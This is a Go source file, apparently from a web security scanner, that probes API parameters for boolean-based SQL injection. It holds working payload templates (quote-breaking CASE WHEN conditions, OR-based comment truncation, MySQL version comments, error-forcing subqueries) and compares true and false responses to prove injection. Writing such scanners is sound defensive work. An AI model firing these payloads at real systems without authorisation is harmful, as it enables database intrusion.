package check

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"github.com/crenel-project/crenel/internal/scan/graph"
	"github.com/crenel-project/crenel/internal/scan/scenario"
	"github.com/crenel-project/crenel/internal/scan/target"
)

// sqlForm is a way to add a condition to a value: %[1]s is the value, %[2]s the
// condition. It must be neutral when the condition is true.
type sqlForm struct {
	text string
	// widens: more rows than the value's own may be meant, or the rest of the
	// statement is cut off. In a statement that changes rows that would change
	// all of them, so it goes where something is read only.
	widens bool
}

// Expressions that break when they are worked out, and only then: more rows
// than one in place of a value, which SQLite does not mind; an integer too large.
const (
	breaksMost   = "(SELECT 7 UNION SELECT 8)"
	breaksSQLite = "abs(-9223372036854775807-1)"
)

// sqlTexts are the forms that leave a text between quotes.
var sqlTexts = []sqlForm{
	{"%[1]s' AND %[2]s AND '1'='1", false},
	{"%[1]s'||(CASE WHEN %[2]s THEN '' ELSE NULL END)||'", false},
	{"%[1]s' AND %[2]s -- ", true},
	{"%[1]s%%' AND %[2]s AND '%%'='", false},
	{"%[1]s%%' AND %[2]s -- ", true},
	{"%[1]s'||(CASE WHEN %[2]s THEN '' ELSE (SELECT '7' UNION SELECT '8') END)||'", true}, // where nothing is found either way
	{"%[1]s'||(CASE WHEN %[2]s THEN '' ELSE " + breaksSQLite + " END)||'", true},
	{"%[1]s') AND %[2]s AND '1'=('1", false},
	{"%[1]s%%') AND %[2]s -- ", true},
	{"%[1]s' OR %[2]s -- ", true},
	{"%[1]s') OR %[2]s -- ", true},
	{"%[1]s')) OR %[2]s -- ", true},
	{"%[1]s\" AND %[2]s AND \"1\"=\"1", false},
	{"0'+(CASE WHEN %[2]s THEN 91374563 ELSE " + breaksMost + " END)+'0", false},
	{"0'+(CASE WHEN %[2]s THEN 91374563 ELSE " + breaksSQLite + " END)+'0", false},
	{"%[1]s'+(CASE WHEN %[2]s THEN '' ELSE NULL END)+'", true}, // SQL Server's; to MySQL it is a number
	{"%[1]s AND %[2]s", false},
	{"%[1]s,(CASE WHEN %[2]s THEN 1 ELSE " + breaksMost + " END)", false}, // where columns are named
}

// sqlNumerals are the forms for numbers.
var sqlNumerals = []sqlForm{
	{"(CASE WHEN %[2]s THEN %[1]s ELSE NULL END)", false},
	{"(CASE WHEN %[2]s THEN %[1]s ELSE " + breaksMost + " END)", false},
	{"(CASE WHEN %[2]s THEN %[1]s ELSE " + breaksSQLite + " END)", false},
}

// sqlForms are those of the texts' that a call may carry.
func sqlForms(method string) []sqlForm {
	if method == http.MethodGet {
		return sqlTexts
	}
	return slices.DeleteFunc(slices.Clone(sqlTexts), func(f sqlForm) bool { return f.widens })
}

func (f sqlForm) with(value, condition string) string { return fmt.Sprintf(f.text, value, condition) }

// kindOf is an answer without what it says: its status' class and its form.
func kindOf(x *target.Exchange) string {
	return strconv.Itoa(x.Status/100) + scenario.Form(x.Body)
}

func (p *Probe) sqlBoolean(ctx context.Context, s *slot, forms []sqlForm) (bool, error) {
	v := s.value
	if v == "" {
		v = "a"
	}
	for _, form := range forms {
		if done, err := p.sqlFollows(ctx, s, v, form); err != nil || done {
			return done, err
		}
	}
	return false, nil
}

// sqlFollows tries one form: does the answer follow the condition?
func (p *Probe) sqlFollows(ctx context.Context, s *slot, v string, form sqlForm) (bool, error) {
	yesText, noText := form.with(v, "7=7"), form.with(v, "7=8")
	yes, err := p.send(ctx, s.with(yesText))
	if err != nil || yes.Status/100 != 2 {
		return false, err
	}
	no, err := p.send(ctx, s.with(noText))
	if err != nil {
		return false, err
	}
	t := tellOf(s, yes, no, yesText, noText)
	if t == nil || no.Status == 429 {
		return false, nil
	}
	return p.sqlProof(ctx, s, t, [][2]string{
		{yesText, noText},
		{form.with(v, "(31*37)=1147"), form.with(v, "(31*37)=1148")},
		{form.with(v, "19>18"), form.with(v, "19>20")},
	})
}

// tell is how a true answer is told from a false one.
type tell struct {
	like bool   // by what they say: each is as the others of its side
	at   string // by a place of the answer that the true ones have
} // by their status, where it is neither

// tellOf is how two answers differ, nil where they do not.
func tellOf(s *slot, yes, no *target.Exchange, vary ...string) *tell {
	// What is said where the statement breaks may hold the statement, and so be
	// another for each condition.
	if no.Status/100 != 2 {
		return &tell{}
	}
	if s.stable {
		if scenario.Alike(yes, no, vary...) {
			return nil
		}
		return &tell{like: true}
	}
	body, ok := scenario.Decode(yes.Body)
	other, ok2 := scenario.Decode(no.Body)
	if !ok || !ok2 {
		return nil
	}
	at := ""
	scenario.Walk(body, func(where string, v any) {
		if w := wild(where); at == "" && v != nil && len(scenario.Find(other, w)) == 0 {
			at = w
		}
	})
	if at == "" {
		return nil
	}
	return &tell{at: at}
}

func (t *tell) yes(first bool) scenario.Expect {
	switch {
	case t.like && first:
		return scenario.Expect{Status: "2xx"}
	case t.like:
		return scenario.Expect{Like: "true1"}
	case t.at != "":
		return scenario.Expect{Status: "2xx", At: t.at, Matches: "."}
	}
	return scenario.Expect{Status: "2xx"}
}

func (t *tell) no(first bool) scenario.Expect {
	switch {
	case t.like && first:
		return scenario.Expect{Status: "any", Unlike: "true1"}
	case t.like:
		return scenario.Expect{Like: "false1", Unlike: "true1"}
	case t.at != "":
		return scenario.Expect{At: t.at, Missing: true}
	}
	return scenario.Expect{Status: "4xx|5xx"}
}

// sqlProof proves that conditions which are added to a value are worked out.
func (p *Probe) sqlProof(ctx context.Context, s *slot, t *tell, pairs [][2]string) (bool, error) {
	var l steps
	if s.value == "" { // an order that is left out is taken; an empty one may be none
		st, err := p.step(nil, s.call, "plain", scenario.Control)
		st.Note, st.Expect = "the call without it is taken", []scenario.Expect{{Status: "!5xx"}}
		l.add(st, err)
	} else {
		l.add(p.unechoed(s, "plain", scenario.Control, "the plain value is taken", s.value, scenario.Expect{Status: "!5xx"}))
	}
	for i, pair := range pairs {
		yes, no, part := "true"+strconv.Itoa(i+1), "false"+strconv.Itoa(i+1), scenario.Attack
		if i == 0 {
			part = scenario.Control
		}
		l.add(p.unechoed(s, yes, part, "with a condition that is true", pair[0], t.yes(i == 0)))
		l.add(p.unechoed(s, no, scenario.Attack, "with one that is false the answer is another", pair[1], t.no(i == 0)))
	}
	return p.injected(ctx, s, "SQL injection", "Conditions that are put into the input are worked out by the database: the answer follows whether they are true.", &l)
}

// sqlNumber tries conditions in place of a number: a program may take a text
// where one is expected.
func (p *Probe) sqlNumber(ctx context.Context, s *slot) error {
	if _, err := strconv.ParseFloat(s.value, 64); err != nil {
		return nil //nolint:nilerr // nothing is known to compare with
	}
	x, err := p.send(ctx, s.with(sqlNumerals[0].with(s.value, "7=7")))
	if err != nil {
		return err
	}
	if x.Status/100 == 2 {
		if err := p.settled(ctx, s); err != nil {
			return err
		}
		if done, err := p.sqlBoolean(ctx, s, sqlNumerals); err != nil || done {
			return err
		}
		if s.op.Method == http.MethodGet && kindOf(x) == kindOf(s.base) {
			if done, err := p.sqlUnion(ctx, s); err != nil || done {
				return err
			}
		}
	}
	if s.op.Method != http.MethodGet {
		return nil
	}
	if done, err := p.sqlVersion(ctx, s); err != nil || done {
		return err
	}
	one, err := p.send(ctx, s.with(s.value+"'"))
	if err != nil || !reSQLError.Match(one.Body) || sqlError(s.base) || reShellError.Match(one.Body) {
		return err
	}
	says := scenario.Expect{Matches: reSQLError.String()}
	var l steps
	l.add(p.slotStep(s, "plain", scenario.Control, "a plain value brings no error", s.value, scenario.Expect{Status: "!5xx"}))
	l.add(p.slotStep(s, "spaced", scenario.Control, "with a space behind it neither", s.value+" ", scenario.Expect{Status: "!5xx", Lacks: []string{"'"}}))
	l.add(p.slotStep(s, "quote", scenario.Attack, "a lone quote brings the database's error", s.value+"'", says))
	_, err = p.injected(ctx, s, "SQL injection", "A quote behind a number begins a text in the statement, and the database complains.", &l)
	return err
}

// rePaged are names of numbers that statements take as they are, in MySQL even
// where no expression may stand.
var rePaged = regexp.MustCompile(`(?i)limit|offset|page|size|count|^n$|^top$|^skip$|^take$|^from$`)

// sqlVersion tries comments that MySQL and MariaDB read according to their own
// version: where a statement is limited to so many rows, no expression can be.
func (p *Probe) sqlVersion(ctx context.Context, s *slot) (bool, error) {
	if s.in.Meaning != graph.MeansPageSize && s.in.Meaning != graph.MeansPage && !rePaged.MatchString(s.in.Name) {
		return false, nil
	}
	if err := p.settled(ctx, s); err != nil || !s.stable {
		return false, err
	}
	yesText, noText := "1/*!99999,1*/", "1/*!50000,1*/"
	yes, err := p.send(ctx, s.with(yesText))
	if err != nil || yes.Status/100 != 2 {
		return false, err
	}
	no, err := p.send(ctx, s.with(noText))
	if err != nil || scenario.Alike(yes, no, yesText, noText) {
		return false, err
	}
	return p.sqlProof(ctx, s, &tell{like: true}, [][2]string{{yesText, noText}, {"1/*!99998,1*/", "1/*!50001,1*/"}, {"1 /*!99997 , 1 */", "1 /*!50002 , 1 */"}})
}

// sqlSort: an order that is worked out.
func (p *Probe) sqlSort(ctx context.Context, s *slot) (bool, error) {
	s.stable = true // else the proof's own controls tell
	var forms []sqlForm
	v := s.value
	if v != "" {
		forms = append(forms, sqlForm{"%[1]s,(CASE WHEN %[2]s THEN 1 ELSE " + breaksMost + " END)", false}, sqlForm{"%[1]s,(CASE WHEN %[2]s THEN 1 ELSE " + breaksSQLite + " END)", false})
	}
	columns := []string{"id"}
	for _, out := range s.op.Outputs {
		if (out.Type == "integer" || out.Type == "number") && len(columns) < 3 && out.Name != "id" && strings.Contains(out.Pointer, "*") {
			columns = append(columns, out.Name)
		}
	}
	for _, c := range columns {
		forms = append(forms,
			sqlForm{strings.ReplaceAll("(CASE WHEN %[2]s THEN COLUMN ELSE -COLUMN END)", "COLUMN", c), false},
			sqlForm{strings.ReplaceAll("COLUMN*(CASE WHEN %[2]s THEN 1 ELSE -1 END)", "COLUMN", c), false})
	}
	forms = append(forms, sqlForm{"(CASE WHEN %[2]s THEN 1 ELSE " + breaksMost + " END)", false})
	for _, form := range forms {
		if done, err := p.sqlFollows(ctx, s, v, form); err != nil || done {
			return done, err
		}
	}
	return false, nil
}
